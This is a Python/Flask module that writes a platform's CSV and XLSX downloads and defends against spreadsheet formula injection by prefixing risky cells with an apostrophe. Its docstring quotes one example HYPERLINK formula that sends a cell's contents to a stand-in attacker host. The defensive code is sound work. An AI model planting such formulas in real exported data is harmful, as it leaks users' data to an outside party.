"""The one writer of every CSV and XLSX file the platform produces (downloads and demo files).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or carriage
return, whatever follows) as a formula: a bank administrator's chosen display name such as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link in the enterprise's
access-log download. Every text cell therefore goes through `safe_cell()`, which prefixes such
a value with `'` (OWASP's "CSV injection" advice). Numbers stay numbers: an int, a Decimal or a
float is written as it is, and so is a text that is only a number (`-12.50`), which a
spreadsheet cannot run.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

from flask import Response

FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?\Z")
CSV_MIMETYPE = "text/csv"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"  # so that Excel opens UTF-8 as UTF-8 (and shows the Chinese)


def safe_cell(value: Any) -> Any:
    """A cell value a spreadsheet will not run: text starting like a formula gets a `'`."""
    if isinstance(value, str):
        if value and value[0] in FORMULA_STARTS and not _PLAIN_NUMBER.match(value):
            return "'" + value
        return value
    if value is None or isinstance(value, int | float | Decimal | date | datetime):
        return value
    return safe_cell(str(value))


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


class CsvSheet:
    """Rows to a CSV text stream, every cell neutralised."""

    def __init__(self, stream: IO[str], header: Sequence[Any] | None = None) -> None:
        self._writer = csv.writer(stream)
        if header is not None:
            self.writerow(header)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(["" if v is None else safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class XlsxSheet:
    """Rows to the first sheet of a workbook (openpyxl write-only mode), every cell neutralised.

    openpyxl itself stores a text starting with `=` as a formula, so neutralising is what keeps
    such a value text.
    """

    def __init__(
        self,
        title: str,
        header: Sequence[Any] | None = None,
        *,
        widths: Sequence[float] | None = None,
    ) -> None:
        from openpyxl import Workbook
        from openpyxl.utils import get_column_letter

        self._book = Workbook(write_only=True)
        self._sheet = self._book.create_sheet(title[:31])  # Excel's limit on a sheet name
        for index, width in enumerate(widths or (), start=1):  # before any row (write-only)
            self._sheet.column_dimensions[get_column_letter(index)].width = width
        if header is not None:
            self.writerow(header)

    def writerow(self, row: Iterable[Any], formats: Sequence[str | None] | None = None) -> None:
        """One row; `formats` gives each column's number format ("#,##0.00", "0.0%")."""
        values = safe_row(row)
        if formats:
            from openpyxl.cell import WriteOnlyCell

            cells: list[Any] = []
            for value, fmt in zip(values, [*formats, *[None] * len(values)], strict=False):
                if fmt and isinstance(value, int | float | Decimal):
                    cell = WriteOnlyCell(self._sheet, value=value)
                    cell.number_format = fmt
                    cells.append(cell)
                else:
                    cells.append(value)
            values = cells
        self._sheet.append(values)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def save(self, target: Path | IO[bytes]) -> None:
        self._book.save(target)


Preamble = Sequence[Sequence[Any]]  # lines above a table: what it shows ("期间", "2025-01 — …")


def csv_bytes(
    header: Sequence[Any], rows: Iterable[Iterable[Any]], *, preamble: Preamble = ()
) -> bytes:
    """A whole CSV download: UTF-8 with a BOM; the preamble's lines, a blank line, the table."""
    out = io.StringIO()
    out.write(BOM)
    sheet = CsvSheet(out)
    if preamble:
        sheet.writerows([*preamble, []])
    sheet.writerow(header)
    sheet.writerows(rows)
    return out.getvalue().encode("utf-8")


def display_width(value: Any) -> int:
    """How many columns a value takes in a spreadsheet (a Chinese character takes two)."""
    text = "" if value is None else str(value)
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def column_widths(header: Sequence[Any], rows: Sequence[Sequence[Any]]) -> list[float]:
    """Widths that fit each column's header and values (with a margin, at most 60)."""
    widths = [display_width(h) for h in header]
    for row in rows:
        for index, value in enumerate(row[: len(widths)]):
            shown = f"{value:,.2f}" if isinstance(value, Decimal | float) else value
            widths[index] = max(widths[index], display_width(shown))
    return [min(60.0, w + 2.0) for w in widths]


def xlsx_bytes(
    title: str,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    preamble: Preamble = (),
    formats: Sequence[str | None] | None = None,
) -> bytes:
    """A whole XLSX download: the preamble's lines, a blank line, the table, with columns as
    wide as their contents and numbers in the given formats (still numbers, not text)."""
    table = [list(row) for row in rows]
    sheet = XlsxSheet(title, widths=column_widths(header, table))
    if preamble:
        sheet.writerows([*preamble, []])
    sheet.writerow(header)
    for row in table:
        sheet.writerow(row, formats)
    out = io.BytesIO()
    sheet.save(out)
    return out.getvalue()


def _attachment(filename: str) -> dict[str, str]:
    return {"Content-Disposition": f"attachment; filename={filename}"}


def csv_response(
    filename: str,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    preamble: Preamble = (),
) -> Response:
    return Response(
        csv_bytes(header, rows, preamble=preamble),
        mimetype=CSV_MIMETYPE,
        headers=_attachment(filename),
    )


def xlsx_response(
    filename: str,
    title: str,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    preamble: Preamble = (),
    formats: Sequence[str | None] | None = None,
) -> Response:
    return Response(
        xlsx_bytes(title, header, rows, preamble=preamble, formats=formats),
        mimetype=XLSX_MIMETYPE,
        headers=_attachment(filename),
    )
